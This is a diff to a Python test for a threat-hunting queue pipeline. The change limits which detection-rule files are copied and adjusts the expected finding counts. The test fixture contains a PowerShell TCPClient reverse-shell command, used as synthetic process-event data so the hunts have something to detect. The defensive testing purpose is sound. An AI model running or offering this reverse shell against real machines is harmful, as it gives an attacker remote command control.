@@ -41,6 +41,9 @@ SHELL = ("powershell.exe -nop -c \"$client = New-Object System.Net.Sockets.TCPCl
          ".GetBytes($r2);$s.Write($sb,0,$sb.Length);$s.Flush()};$client.Close()\"")
 SEED = "PowerShell TCPClient reverse shell (Microsoft original)"
 SEED_ID = "7490e437-edc2-40b3-87fe-45b736593deb"
+HUNT_FILES = ("microsoft-powershell-tcpclient.yaml", "powershell-socket-reverse-shell.yaml",
+              "powershell-download-cradle-stager.yaml",
+              "sentinel-powershell-socket-reverse-shell.yaml")
 QUEUES = (HUNTS_QUEUE, DELIVERY_QUEUE, HUNTS_QUEUE + POISON_SUFFIX, DELIVERY_QUEUE + POISON_SUFFIX)
 
 
@@ -74,7 +77,9 @@ def world(tmp_path: Path, queue_connection_string: str,
             process_event(3, now - timedelta(minutes=30), SHELL.replace("4444", "443"))]
     events.write_text("".join(json.dumps(r) + "\n" for r in rows))
     hunts = tmp_path / "hunts"
-    shutil.copytree(REPO / "hunts", hunts)
+    hunts.mkdir()
+    for name in HUNT_FILES:  # a few hunts keep the tests fast; the mechanism is per message
+        shutil.copy(REPO / "hunts" / name, hunts / name)
     _clear_tables(queue_connection_string)
     host = QueueHost(queue_connection_string, {
         HUNTS_QUEUE: user_function("hunt_worker"),
@@ -158,11 +163,12 @@ def test_a_cycle_reports_every_finding_once(world: dict[str, Any]) -> None:
     run_timer()
     assert graph_queries(world["graph"]) == 0  # the timer only enqueues
     sent = host.depth(HUNTS_QUEUE)
-    assert sent == 5  # the Defender hunts; Sentinel's have no workspace and are skipped
+    assert sent == 3  # the Defender hunts; Sentinel's have no workspace and are skipped
     host.drain()
     assert not host.failures
     counts = reported(world["webhook"])
     assert counts[SEED] == 2
+    assert len(counts) >= 2
     assert len(digests(world["webhook"])) == 1  # one incident: one device, minutes apart
     assert graph_queries(world["graph"]) == sent
     cycle = cycle_of(host)
